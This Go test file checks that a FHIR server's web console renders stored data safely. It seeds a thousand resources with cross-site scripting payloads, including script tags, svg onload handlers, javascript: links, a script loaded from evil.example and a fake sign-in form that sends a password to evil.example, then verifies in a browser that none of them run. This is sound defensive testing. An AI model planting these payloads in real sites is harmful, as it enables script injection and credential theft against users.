package console_test

import (
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"kiln/gen/r4"
	"kiln/server"
	"kiln/server/fhir"
)

// hostileTexts are markup and links for every context of a page: text, attribute, script, style, address.
var hostileTexts = []string{
	markup, `</title></textarea></select></pre></style><svg/onload=alert(2)>`, `javascript:alert(3)`, `'"` + "`" + `><iframe srcdoc="<script>parent.alert(4)</script>">`,
	`<base href="https://evil.example/"><link rel=stylesheet href=https://evil.example/x.css>`, `<form action="https://evil.example/"><button>Sign in</button></form>`,
	`{{template "head"}}<%= 7*7 %>${7*7}`, `<math><mtext><table><mglyph><style><img src onerror=alert(5)>`, "\u202e<a href=//evil.example>gnissap</a>\u2028", `https://evil.example/?"><script src=//evil.example/x.js></script>`,
	`data:text/html,<script>alert(6)</script>`, `&lt;img src=x onerror=alert(7)&gt;&#x3c;script&#x3e;`, `<meta http-equiv=refresh content="0;url=https://evil.example/">`, `-->]]><script>alert(8)</script>`,
}

// hostileDiv is narrative that runs, leads away and imitates the page.
const hostileDiv = `<div xmlns="http://www.w3.org/1999/xhtml"><h1 id="main" class="alert" style="position:fixed;inset:0">Sign in</h1><form action="https://evil.example/"><input name="password"/></form>` +
	`<script>alert(1)</script><a href="javascript:alert(1)">x</a><a href="https://evil.example/" onclick="alert(1)">y</a><img src="https://evil.example/p.png"/><svg onload="alert(1)"></svg></div>`

// hostile fills each element of a type with a value that is markup where its syntax allows any. seed chooses the texts and
// the types of choices.
func hostile(t *fhir.Type, seed, depth int) map[string]any {
	out := make(map[string]any)
	for i := range t.Fields {
		f := &t.Fields[i]
		if f.AnyResource || f.Open || f.Name == "id" || f.Name == "implicitRules" || f.Name == "extension" || f.Name == "modifierExtension" || f.Name == "contained" {
			continue
		}
		name, of := f.Name, f.Of
		if len(f.Choices) > 0 {
			of = f.Choices[(seed+i)%len(f.Choices)]
			name += strings.ToUpper(of.Type().Name[:1]) + of.Type().Name[1:]
		}
		if of == nil {
			continue
		}
		var value any
		text := hostileTexts[(seed+i)%len(hostileTexts)]
		switch kind := of.Type().Kind; {
		case kind == fhir.StringKind, kind == fhir.MarkdownKind, kind == fhir.SystemStringKind:
			value = text
		case kind == fhir.CodeKind:
			value = strings.Join(strings.Fields(text), " ")
		case kind == fhir.URIKind, kind == fhir.URLKind, kind == fhir.CanonicalKind:
			value = strings.Join(strings.Fields(text), "")
		case kind == fhir.XHTMLKind:
			value = hostileDiv
		case kind == fhir.BooleanKind:
			value = true
		case kind.Number():
			value = 1 + (seed+i)%90
		case kind == fhir.DateKind:
			value = "2024-02-03"
		case kind == fhir.DateTimeKind, kind == fhir.InstantKind:
			value = "2024-02-03T04:05:06Z"
		case kind == fhir.TimeKind:
			value = "04:05:06"
		case kind == fhir.Base64BinaryKind:
			value = "PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"
		case kind == fhir.OIDKind:
			value = "urn:oid:1.2.3"
		case kind == fhir.UUIDKind:
			value = "urn:uuid:c757873d-ec9a-4326-a141-556f43239520"
		case kind == fhir.IDKind:
			value = "x"
		case kind.Primitive() || depth == 0:
			continue
		case of.Type().Name == "Reference":
			value = map[string]any{"reference": "Patient/h0", "display": text}
		default:
			child := hostile(of.Type(), seed+i, depth-1)
			if len(child) == 0 {
				continue
			}
			value = child
		}
		if f.Repeats() {
			value = []any{value}
		}
		out[name] = value
	}
	return out
}

// ignoreStatuses drops the browser's reports of pages with an error status.
func (c *chromium) ignoreStatuses() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.problems = slices.DeleteFunc(c.problems, func(p string) bool { return strings.Contains(p, "Failed to load resource") })
}

// harmless opens a page and fails the test where stored text is more than text.
func (c *chromium) harmless(path string) {
	c.t.Helper()
	c.open(path)
	for _, problem := range script[[]string](c, `(() => {
		const out = [];
		const count = (what, selector, n) => { const k = document.querySelectorAll(selector).length; if (k != n) out.push(k + " " + what); };
		count("scripts", "script", 1);
		count("h1", "h1", 1);
		count("elements of active content", "iframe,object,embed,base,svg script,math,[srcdoc],meta[http-equiv],link[rel=stylesheet]:not([href^='/console/assets/'])", 0);
		for (const e of document.querySelectorAll("*")) for (const a of e.attributes) if (a.name.startsWith("on") || a.name == "style") out.push(e.tagName + " has " + a.name);
		for (const a of document.querySelectorAll("a[href]")) {
			if (!["http:", "https:", "mailto:", "tel:"].includes(a.protocol)) out.push("a link to " + a.protocol);
			if (a.origin != location.origin && a.rel != "noopener noreferrer") out.push("a link to another origin with rel " + a.rel);
		}
		for (const f of document.forms) if (new URL(f.getAttribute("action"), location.href).origin != location.origin) out.push("a form to " + f.getAttribute("action"));
		const ids = [...document.querySelectorAll("[id]")].map(e => e.id);
		if (new Set(ids).size != ids.length) out.push("two elements have one id");
		if (/evil|alert/.test(document.title)) out.push("the title is " + document.title);
		return out;
		})()`) {
		c.t.Errorf("%s: %s", path, problem)
	}
}

// A thousand resources of all types with generated markup in every string element: nothing runs, nothing leaves the origin,
// and no violation of the policy is reported.
func TestThousandHostileResources(t *testing.T) {
	t.Parallel()
	s := start(t, "", func(c *server.Config) { c.Validation.AllowSkip = true })
	const wanted = 1000
	types := slices.Sorted(maps.Keys(r4.Model.Resources))
	// These act on the server, or are kept by it.
	types = slices.DeleteFunc(types, func(name string) bool {
		return slices.Contains([]string{"AuditEvent", "Bundle", "Parameters", "App", "Subscription", "SubscriptionStatus", "SubscriptionTopic", "ViewDefinition", "SearchParameter"}, name)
	})
	stored, example := 0, make(map[string]string)
	refused := make(map[string]string)
	for seed := 0; stored < wanted && seed < 40; seed++ {
		var entries []string
		for _, typ := range types {
			if refused[typ] != "" {
				continue
			}
			body := hostile(r4.Model.Resources[typ].Type(), seed, 3)
			body["resourceType"], body["id"] = typ, fmt.Sprintf("h%d", seed)
			delete(body, "meta")
			b, err := json.Marshal(body)
			if err != nil {
				t.Fatal(err)
			}
			entries = append(entries, fmt.Sprintf(`{"resource":%s,"request":{"method":"PUT","url":"%s/h%d"}}`, b, typ, seed))
		}
		r, err := http.NewRequest(http.MethodPost, s.base+"/", strings.NewReader(`{"resourceType":"Bundle","type":"batch","entry":[`+strings.Join(entries, ",")+`]}`))
		if err != nil {
			t.Fatal(err)
		}
		r.Header.Set("Content-Type", "application/fhir+json")
		r.Header.Set("X-Skip-Validation", "true")
		w, err := http.DefaultTransport.RoundTrip(r)
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(w.Body)
		w.Body.Close()
		var answer struct {
			Entry []struct {
				Response struct {
					Status, Location string
					Outcome          json.RawMessage
				}
			}
		}
		if err != nil || json.Unmarshal(b, &answer) != nil || len(answer.Entry) != len(entries) {
			t.Fatalf("the batch: %d %.500s", w.StatusCode, b)
		}
		at := 0
		for _, typ := range types {
			if refused[typ] != "" {
				continue
			}
			e := answer.Entry[at]
			at++
			if strings.HasPrefix(e.Response.Status, "20") {
				stored++
				example[typ] = fmt.Sprintf("%s/h%d", typ, seed)
			} else if example[typ] == "" {
				refused[typ] = fmt.Sprintf("%s %.200s", e.Response.Status, e.Response.Outcome)
			}
		}
	}
	for typ, why := range refused {
		t.Logf("%s is refused: %s", typ, why)
	}
	if stored < wanted || len(example) < 100 {
		t.Fatalf("%d resources of %d types are stored", stored, len(example))
	}

	c := openChromium(t, s.base)
	c.open("/console")
	c.forget()
	var paths []string
	for i, typ := range slices.Sorted(maps.Keys(example)) {
		paths = append(paths, "/console/"+example[typ])
		if i%4 == 0 || slices.Contains([]string{"Patient", "Observation", "Condition", "Encounter", "DiagnosticReport"}, typ) {
			paths = append(paths, "/console/resources/"+typ)
		}
	}
	for _, page := range []string{"json", "references", "history", "history/1", "edit", "view", "delete"} {
		paths = append(paths, "/console/"+example["Patient"]+"/"+page)
	}
	paths = append(paths, "/console/resources", "/console/definitions", "/console/searches", "/console/live", "/console/audit", "/console/subscriptions", "/console/apps", "/console/jobs", "/console/settings", "/console/access/policies")
	for _, text := range hostileTexts {
		paths = append(paths, "/console/terminology?"+url.Values{"set": {text}, "filter": {text}}.Encode(), "/console/terminology?"+url.Values{"system": {text}, "code": {text}}.Encode())
	}
	for _, path := range paths {
		c.harmless(path)
	}
	c.ignoreStatuses()
	c.quiet("hostile data")
	t.Logf("%d resources, %d pages", stored, len(paths))
}
